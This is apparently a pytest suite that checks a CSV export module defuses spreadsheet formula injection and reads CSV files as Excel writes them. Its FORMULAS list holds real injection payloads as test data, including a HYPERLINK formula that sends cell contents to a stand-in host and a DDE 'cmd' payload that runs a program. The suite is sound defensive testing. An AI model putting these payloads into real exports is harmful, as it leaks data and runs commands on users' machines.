"""CSV for people: nothing in it is computed, and it is read as spreadsheets write it."""

import csv
import io
import json
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from host_tools import spreadsheet
from host_tools.spreadsheet import NotCsv, cell, json_cell, plain

# OWASP "CSV Injection"; hhurz/tableExport#230, iris-client#443, grafana#17363
FORMULAS = (
    '=HYPERLINK("http://x/?"&A1,"ok")', "@SUM(1+1)", "+91 98260 00000", "+919826000000", "-see note", "-5", "-",
    "  =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u00a0=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''=1+1",
    "=cmd|'/c calc'!A1", "x;=1+1", "x;  @SUM(1)", "=1;=2",
)  # fmt: skip


def opened(text: str, separator: str = ",") -> list[str]:
    """The cells a spreadsheet sees, where *separator* is usual."""
    return [value for row in csv.reader(io.StringIO(text), delimiter=separator) for value in row]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_is_a_formula_in_any_country(formula: str, separator: str) -> None:
    out = io.StringIO()
    spreadsheet.write(out, ["by"], [[cell(formula)]])
    for value in opened(out.getvalue(), separator):
        assert value.lstrip(' "')[:1] not in ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")


@pytest.mark.parametrize(("value", "said"), [
    (-3.5, "-3.5"), (-33.9249, "-33.9249"), (7, "7"), (None, ""), (True, "yes"), (False, "no"),
    ("Ravi Kumar", "Ravi Kumar"), ("a=b", "a=b"), ("3-4", "3-4"), ("श्\u200dरी", "श्\u200dरी"), ("'tis", "'tis"),
    ("two\r\nlines", "two lines"), ("a\x1b[2J", "a?[2J"),
])  # fmt: skip
def test_a_number_and_a_plain_text_stay(value: object, said: str) -> None:
    assert cell(value) == said


@given(st.text(alphabet=st.sampled_from("=+-@;|' ab1,\"＝")))
def test_what_was_written_is_read_again(text: str) -> None:
    out = io.StringIO()
    spreadsheet.write(out, ["a", "b"], [[cell(text), "x"]])
    [_head, line] = spreadsheet.lines(out.getvalue())
    assert plain(line.cells[0]) == text


@given(st.text())
def test_json_in_a_cell_is_the_same_json_and_no_formula(text: str) -> None:
    said = json_cell({"why": text, text: ";=1+1"})
    assert json.loads(said) == {"why": text, text: ";=1+1"}
    assert not any(part.lstrip()[:1] in "=+-@" for part in said.split(";") if part.strip())


def test_excel_is_told_that_hindi_is_utf_8_and_nothing_else_is_touched() -> None:
    assert spreadsheet.for_excel("site,pole\r\n") == "site,pole\r\n"
    assert spreadsheet.for_excel("by\r\nसीता\r\n").encode().startswith(b"\xef\xbb\xbf")


TABLE = 'access_point,ssid,password\nnorth,चौराहा;1,"a,b;c"\n'


@pytest.mark.parametrize("encode", [
    lambda text: text.encode(),
    lambda text: text.encode("utf-8-sig"),
    lambda text: text.replace("\n", "\r\n").encode("utf-8-sig"),
    lambda text: text.replace("\n", "\r").encode(),  # old Mac
    lambda text: text.encode("utf-16"),
    lambda text: text.encode("utf-16-le"),
    lambda text: text.encode("utf-16-be"),
    lambda text: ("# remark\n\n" + text + "\n,,\n").encode(),
    lambda text: ("sep=,\n" + text).encode("utf-8-sig"),
])  # fmt: skip
def test_a_table_is_read_as_excel_writes_it(encode: Callable[[str], bytes]) -> None:
    rows = list(spreadsheet.lines(spreadsheet.decoded(encode(TABLE))))
    assert [row.cells for row in rows] == [["access_point", "ssid", "password"], ["north", "चौराहा;1", "a,b;c"]]


@pytest.mark.parametrize("head", ["", "sep=;\n", '"sep=;"\n', "SEP=;\n"])
def test_semicolons_and_tabs_separate_where_they_are_usual(head: str) -> None:
    for separator in (";",) if head else (";", "\t", "|"):
        text = head + "a,b,c\n1,2,3\n".replace(",", separator)
        assert [row.cells for row in spreadsheet.lines(text)] == [["a", "b", "c"], ["1", "2", "3"]]


def test_old_excel_is_read_as_windows_writes_it() -> None:
    assert spreadsheet.decoded("ssid\nCafé Münch\n".encode("cp1252")) == "ssid\nCafé Münch\n"


def test_lines_are_counted_as_an_editor_counts_them() -> None:
    text = '# remark\nsep=;\na;b\n\n1;"two\nlines"\n3;4\n'
    assert [row.number for row in spreadsheet.lines(text)] == [3, 5, 7]


@pytest.mark.parametrize("text", ['a,b\n1,"secret\n', 'a,b\n1,"sec"ret"\n'])
def test_what_is_no_csv_is_named_by_its_line_alone(text: str) -> None:
    with pytest.raises(NotCsv, match="line 2 is no CSV") as said:
        list(spreadsheet.lines(text))
    assert "sec" not in str(said.value)


@given(st.binary())
def test_any_bytes_are_read_or_refused(data: bytes) -> None:
    try:
        list(spreadsheet.lines(spreadsheet.decoded(data)))
    except NotCsv:
        pass
